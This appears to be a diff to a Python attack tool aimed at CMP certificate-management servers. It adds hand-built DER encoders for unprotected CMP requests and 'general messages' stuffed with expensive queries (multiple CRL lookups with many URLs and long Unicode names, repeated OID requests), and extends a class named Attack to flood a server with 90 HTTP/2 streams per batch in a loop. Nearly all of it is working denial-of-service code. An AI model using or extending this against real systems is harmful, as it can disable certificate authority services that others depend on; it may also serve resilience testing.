@@ -56,16 +56,42 @@ def window(size):
 
 def tlv(tag, *parts):
     content = b"".join(parts)
-    size = bytes([len(content)]) if len(content) < 128 else b"\x82" + struct.pack(">H", len(content))
+    size = (bytes([len(content)]) if len(content) < 128 else bytes([0x81, len(content)]) if len(content) < 256
+            else b"\x82" + struct.pack(">H", len(content)))
     return bytes([tag]) + size + content
+
+
+def unprotected(body):
+    null_dn = tlv(0xa4, tlv(0x30))
+    nonce = lambda: tlv(4, random.randbytes(16))
+    return tlv(0x30, tlv(0x30, tlv(2, b"\x02"), null_dn, null_dn, tlv(0xa4, nonce()), tlv(0xa5, nonce())), body)
 
 
 def message():
     """Readable as a CMP message by its header alone (ir, no protection): refused, and answered with a signature."""
-    null_dn = tlv(0xa4, tlv(0x30))
-    nonce = lambda: tlv(4, random.randbytes(16))
-    header = tlv(0x30, tlv(2, b"\x02"), null_dn, null_dn, tlv(0xa4, nonce()), tlv(0xa5, nonce()))
-    return tlv(0x30, header, tlv(0xa0, tlv(0x30)))
+    return unprotected(tlv(0xa0, tlv(0x30)))
+
+
+def question(number, *value):
+    return tlv(0x30, bytes.fromhex("06082b060105050704") + bytes([number]), *value)
+
+
+def crl_question():
+    """Four CRLs, each by as many URLs as are looked at and a name that takes the tables of Unicode (RFC 9810 5.3.19.17)."""
+    def status():
+        text = "".join(chr(random.randrange(0x3b1, 0x3c9)) for _ in range(200)).encode()
+        name = tlv(0x30, tlv(0x31, tlv(0x30, bytes.fromhex("0603550403"), tlv(0x0c, text))))
+        urls = [tlv(0x86, b"http://nowhere/" + str(random.random()).encode()) for _ in range(8)]
+        return tlv(0x30, tlv(0xa0, tlv(0xa0, *urls, tlv(0xa4, name))))
+    return question(22, tlv(0x30, *(status() for _ in range(4))))
+
+
+def general():
+    """A general message without protection: what costs most, and asks for most."""
+    kinds = [lambda: [crl_question()], lambda: [question(6)], lambda: [],
+             lambda: [question(17), question(20), question(6), crl_question(), *(question(10, tlv(6, b"\x2a")) for _ in range(12))],
+             lambda: [tlv(0x30, tlv(6, bytes([0x2a, *(random.randrange(1, 128) for _ in range(3))]))) for _ in range(16)]]
+    return unprotected(tlv(0xb5, tlv(0x30, *random.choice(kinds)())))
 
 
 def ocsp_request(certificates):
@@ -214,11 +240,19 @@ class Attack:
 
     def refused(self):
         """Requests that are refused, 100 at a time on a connection, read and asked again."""
+        self.ask(message)
+
+    def questions(self):
+        """General messages, likewise."""
+        bodies = [general() for _ in range(200)]
+        self.ask(lambda: random.choice(bodies))
+
+    def ask(self, make):
         def conversation(sock):
             stream = 1
             while self.going_on():
                 if not self.send(sock, b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, FIELDS) +
-                                                frame(DATA, END_STREAM, stream + 2 * i, message()) for i in range(90))):
+                                                frame(DATA, END_STREAM, stream + 2 * i, make()) for i in range(90))):
                     return
                 stream += 180
                 try:
